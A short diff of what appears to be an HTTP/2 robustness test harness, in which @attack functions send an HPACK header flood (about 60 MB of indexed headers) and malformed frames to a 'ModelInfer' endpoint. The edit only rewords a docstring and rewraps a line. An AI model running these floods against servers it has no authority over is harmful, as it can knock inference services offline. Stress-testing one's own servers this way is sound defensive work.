@@ -100,7 +100,7 @@ def priorities(strike: Strike) -> None:
 
 @attack(_FLOODS)
 def indexed_headers(strike: Strike) -> None:
-    """A header field of 4 kB that is indexed once and referred to 15,000 times in each call: 60 MB of headers of 15 kB."""
+    """A header field of 4 kB, indexed once, that each call refers to 15,000 times: 60 MB of headers of 15 kB."""
     indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
     path = strike.target.path("ModelInfer")
     with Http2Connection(strike.target.host, strike.target.port) as connection:
@@ -126,7 +126,8 @@ def wrong_frames(strike: Strike) -> None:
         frame(PING, 0, 0, b"x"), frame(PING, 0, 1, bytes(8)), frame(GOAWAY, 0, 0, b"x"), frame(5, 4, 1, bytes(4)),
         frame(WINDOW_UPDATE, 0, 0, bytes(4)), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2,
         call + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1)) * 2, frame(CONTINUATION, 4, 1, b"x"),
-        call + call, call + valid + valid, frame(99, 255, 2**31 - 1, bytes(1000)), b"\xff" * 9, b"\xff\xff\xff" + bytes(6),
+        call + call, call + valid + valid, frame(99, 255, 2**31 - 1, bytes(1000)), b"\xff" * 9,
+        b"\xff\xff\xff" + bytes(6),
         call + frame(DATA, 0, 1, bytes(16_385)), frame(GOAWAY, 0, 0, bytes(8)) + call + valid,
     ]  # fmt: skip
     for data in wrong:
